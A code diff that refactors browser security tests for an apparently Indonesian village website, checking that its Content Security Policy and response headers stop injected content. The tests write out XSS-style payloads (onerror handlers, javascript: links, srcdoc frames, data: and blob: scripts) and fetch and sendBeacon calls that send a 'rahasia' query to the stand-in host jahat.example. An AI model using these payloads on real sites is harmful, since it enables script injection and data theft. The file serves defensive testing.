@@ -2,74 +2,58 @@ import { expect, it } from 'vitest'
 import { setupBrowser } from '../../support/browser'
 import { setupSite } from '../../support/site'
 
-/*
- * Whoever gets markup or a script into a page, published or the shell, gets nothing done with it.
- */
-
 const site = setupSite()
 const { visit } = setupBrowser({ installs: false })
 
 declare global {
   interface Window {
-    /** What got through. */
+    /** Attacks that succeeded. */
     ran: string[]
   }
 }
 
 const ELSEWHERE = 'https://jahat.example'
 
-/** By what it tries: done in the page, each tells `ran` when it gets through. */
+/** Inserted elements. Each adds to `ran` or requests another host if its attack succeeds. */
+const ELEMENTS: Record<string, string> = {
+  'an event handler': '<img src="/tidak-ada" onerror="ran.push(1)">',
+  'a link to a script': '<a href="javascript:ran.push(1)">a</a>',
+  'a frame of a script': '<iframe src="javascript:parent.ran.push(1)">',
+  'a frame with a document': '<iframe srcdoc="<script>parent.ran.push(1)</script>"></iframe>',
+  'an object': '<object data="/jahat.html"></object>',
+  'an inline style': '<style>body { display: none }</style>',
+  'another base': `<base href="${ELSEWHERE}/">`,
+  'a form that leads elsewhere': `<form action="${ELSEWHERE}/" method="post">`,
+  'a frame from elsewhere': `<iframe src="${ELSEWHERE}/"></iframe>`,
+}
+
+/** Inserts an element and uses it. */
+function insert(html: string) {
+  document.body.insertAdjacentHTML('beforeend', html)
+  const element = document.body.lastElementChild
+  if (element instanceof HTMLAnchorElement) element.click()
+  if (element instanceof HTMLFormElement) element.submit()
+  if (document.baseURI.startsWith('https://jahat.example')) window.ran.push('base')
+}
+
+/** Attacks of code that already runs in the page. */
 const ATTACKS: Record<string, () => void> = {
   'an inline script': () => {
-    const script = document.createElement('script')
-    script.textContent = 'ran.push(1)'
-    document.body.append(script)
-  },
-  'an event handler': () => {
-    document.body.insertAdjacentHTML('beforeend', '<img src="/tidak-ada" onerror="ran.push(1)">')
-  },
-  'a link to a script': () => {
-    document.body.insertAdjacentHTML(
-      'beforeend',
-      '<a id="jahat" href="javascript:ran.push(1)">a</a>',
-    )
-    document.getElementById('jahat')?.click()
-  },
-  'a frame of a script': () => {
-    document.body.insertAdjacentHTML('beforeend', '<iframe src="javascript:parent.ran.push(1)">')
-  },
-  'a frame with a document': () => {
-    document.body.insertAdjacentHTML(
-      'beforeend',
-      '<iframe srcdoc="<script>parent.ran.push(1)</script>"></iframe>',
-    )
+    document.body.append(Object.assign(document.createElement('script'), { text: 'ran.push(1)' }))
   },
   'a script in its address': () => {
-    const script = document.createElement('script')
-    script.src = 'data:text/javascript,ran.push(1)'
-    document.body.append(script)
+    const src = 'data:text/javascript,ran.push(1)'
+    document.body.append(Object.assign(document.createElement('script'), { src }))
   },
   'a script in memory': () => {
-    const script = document.createElement('script')
-    script.src = URL.createObjectURL(new Blob(['ran.push(1)'], { type: 'text/javascript' }))
-    document.body.append(script)
+    const src = URL.createObjectURL(new Blob(['ran.push(1)'], { type: 'text/javascript' }))
+    document.body.append(Object.assign(document.createElement('script'), { src }))
   },
   'a script from elsewhere': () => {
-    const script = document.createElement('script')
-    script.src = 'https://jahat.example/a.js'
-    document.body.append(script)
+    const src = 'https://jahat.example/a.js'
+    document.body.append(Object.assign(document.createElement('script'), { src }))
   },
-  // Later, for a test itself may run text. Whoever tries is told, not the console.
-  eval: () => {
-    setTimeout(() => {
-      try {
-        // oxlint-disable-next-line no-eval -- the policy is to refuse it
-        ;(0, eval)('ran.push(1)')
-      } catch (error) {
-        console.error(String(error))
-      }
-    })
-  },
+  // A timer runs it as the page, because a test may evaluate text. The caller receives the refusal.
   'a function made of text': () => {
     setTimeout(() => {
       try {
@@ -79,38 +63,15 @@ const ATTACKS: Record<string, () => void> = {
       }
     })
   },
-  'an object': () => {
-    document.body.insertAdjacentHTML('beforeend', '<object data="/jahat.html"></object>')
-  },
-  'an inline style': () => {
-    document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')
-  },
-  'another base': () => {
-    document.head.insertAdjacentHTML('beforeend', '<base href="https://jahat.example/">')
-    if (document.baseURI.startsWith('https://jahat.example')) window.ran.push('base')
-  },
-  'a form that leads elsewhere': () => {
-    document.body.insertAdjacentHTML(
-      'beforeend',
-      '<form action="https://jahat.example/" method="post">',
-    )
-    document.forms[document.forms.length - 1]?.submit()
-  },
-  'a frame from elsewhere': () => {
-    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://jahat.example/"></iframe>')
-  },
-  'telling somebody else': () => {
+  'a request to another host': () => {
     void fetch('https://jahat.example/?rahasia').catch(() => undefined)
   },
-  'telling somebody else on leaving': () => {
+  'a beacon to another host': () => {
     navigator.sendBeacon('https://jahat.example/?rahasia')
   },
 }
 
-it.each([
-  ['a published page', '/'],
-  ['the shell', '/login'],
-])('%s stops whatever gets into it', async (_, path) => {
+it('stops every injected script, frame, form and request, and denies camera and microphone', async () => {
   const { context, page, expectErrors } = await visit()
   expectErrors('Content Security Policy', 'Failed to load resource')
   const asked: string[] = []
@@ -118,30 +79,50 @@ it.each([
     asked.push(route.request().url())
     return route.fulfill({ contentType: 'text/javascript', body: 'ran.push(1)' })
   })
-  await page.goto(site.url(path))
+  await page.goto(site.url())
   await page.evaluate(() => void (window.ran = []))
-  const gotThrough: Record<string, unknown> = {}
-  for (const [name, attack] of Object.entries(ATTACKS)) {
-    // A frame's own document tells nobody else what it was kept from: the browser's console does.
+  const attacks = [
+    ...Object.entries(ELEMENTS).map(
+      ([name, html]) => [name, () => page.evaluate(insert, html)] as const,
+    ),
+    ...Object.entries(ATTACKS).map(
+      ([name, attack]) => [name, () => page.evaluate(attack)] as const,
+    ),
+  ]
+  for (const [name, attack] of attacks) {
+    // The console also reports violations in the document of a frame.
     const stopped = page.waitForEvent('console', (message) =>
       message.text().includes('Content Security Policy'),
     )
-    await page.evaluate(`(${String(attack)})()`)
+    await attack()
     await stopped
-    gotThrough[name] = [...(await page.evaluate(() => window.ran.splice(0))), ...asked.splice(0)]
+    const succeeded = [...(await page.evaluate(() => window.ran.splice(0))), ...asked.splice(0)]
+    expect.soft(succeeded, name).toEqual([])
   }
-  expect(gotThrough).toEqual(Object.fromEntries(Object.keys(ATTACKS).map((name) => [name, []])))
+  const allows = (feature: string) =>
+    page.evaluate(
+      (feature) =>
+        (
+          document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }
+        ).featurePolicy.allowsFeature(feature),
+      feature,
+    )
+  // Staff set the position of the village from their own.
+  expect.soft(await allows('geolocation')).toBe(true)
+  for (const feature of ['camera', 'microphone', 'display-capture'])
+    expect.soft(await allows(feature), feature).toBe(false)
 })
 
 it.each([
   '/kontak',
+  '/login',
   '/tidak/ada',
   '/admin',
   '/admin/berita',
   '/pencarian',
   '/pengaduan/7K3MQ2XVB9TD4R6H',
   '/berita/01KAHZ7Q3M9V4T6R8W2X5Y0ABC',
-])('%s begins with the same policy', async (path) => {
+])('serves %s with the content security policy of home', async (path) => {
   const policyOf = async (path: string) =>
     /<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/
       .exec(await (await fetch(site.url(path))).text())?.[1]
@@ -151,31 +132,15 @@ it.each([
 })
 
 it.each(['/', '/login', '/tidak/ada', '/assets/tidak-ada.js'])(
-  '%s may be framed by nobody else, is nobody’s opener, and asks for no camera or microphone',
+  'serves %s with headers that deny framing, openers, sniffing, camera and microphone',
   async (path) => {
     const { headers } = await fetch(site.url(path))
-    expect(headers.get('content-security-policy')).toMatch(/frame-ancestors 'self'/)
-    expect(headers.get('permissions-policy')).toMatch(/camera=\(\).*microphone=\(\)/)
-    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin')
-    expect(headers.get('x-content-type-options')).toBe('nosniff')
-    expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
-    // A village's other hosts need not have TLS.
-    expect(headers.get('strict-transport-security')).toBe('max-age=31536000')
+    expect.soft(headers.get('content-security-policy')).toMatch(/frame-ancestors 'self'/)
+    expect.soft(headers.get('permissions-policy')).toMatch(/camera=\(\).*microphone=\(\)/)
+    expect.soft(headers.get('cross-origin-opener-policy')).toBe('same-origin')
+    expect.soft(headers.get('x-content-type-options')).toBe('nosniff')
+    expect.soft(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
+    // `includeSubDomains` is absent because other hosts of the village may have no TLS.
+    expect.soft(headers.get('strict-transport-security')).toBe('max-age=31536000')
   },
 )
-
-it('who sets the village’s place is asked for theirs; no page can ask for a camera', async () => {
-  const { page } = await visit()
-  await page.goto(site.url('/login'))
-  const allows = (feature: string) =>
-    page.evaluate(
-      (feature) =>
-        (
-          document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }
-        ).featurePolicy.allowsFeature(feature),
-      feature,
-    )
-  expect(await allows('geolocation')).toBe(true)
-  for (const feature of ['camera', 'microphone', 'display-capture'])
-    expect(await allows(feature)).toBe(false)
-})
